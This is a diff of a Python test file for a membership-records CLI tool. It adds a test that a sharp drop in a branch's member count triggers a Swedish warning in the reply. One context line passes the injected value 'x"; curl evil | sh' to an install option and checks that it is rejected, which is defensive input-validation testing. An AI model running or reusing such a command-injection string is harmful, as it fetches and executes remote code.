@@ -392,3 +392,29 @@ def test_running_stc_forms_again_keeps_the_districts_settings(repo: Path, invoke
     assert settings.read_text(encoding="utf-8") == "git+https://github.com/district/stc.git@v1\n"
     bad = invoke("forms", "--install", 'x"; curl evil | sh')
     assert bad.exit_code == 2
+
+
+def test_a_sharp_drop_in_a_forms_counts_is_said_in_the_reply(repo: Path, invoke: Invoke) -> None:
+    """The same rule as stc members import: a count under four fifths of the branch's count
+    before is recorded, and the reply says so (fenced: it names the plan's words), with what
+    to do from a form."""
+    first = invoke("record", "members", "2025-03-31", "bromma-kungsholmen=120")
+    assert first.exit_code == 0
+    reply = repo / "reply.md"
+    answers = {"date": "2025-04-30", "count-bromma-kungsholmen": "12"}
+    result = send(repo, invoke, event("members", answers), "--comment", str(reply))
+    assert result.exit_code == 0, result.stderr
+    assert facts(repo)["members"][-1]["counts"] == {"bromma-kungsholmen": 12}
+    text = reply.read_text(encoding="utf-8")
+    note = (
+        "Obs: Bromma-Kungsholmen 12, men 120 den 2025-03-31: mer än en femtedel färre. "
+        "Stämmer siffrorna? Annars redigerar du formuläret, så rättas förslaget."
+    )
+    assert f"```\n{note}\n```" in text
+    assert text.index("```yaml") < text.index(note)
+    assert "mer än en femtedel färre" in result.stderr
+    calm = {"date": "2025-05-31", "count-bromma-kungsholmen": "13"}
+    assert (
+        "femtedel" not in send(repo, invoke, event("members", calm), "--comment", str(reply)).stderr
+    )
+    assert "Obs:" not in reply.read_text(encoding="utf-8")
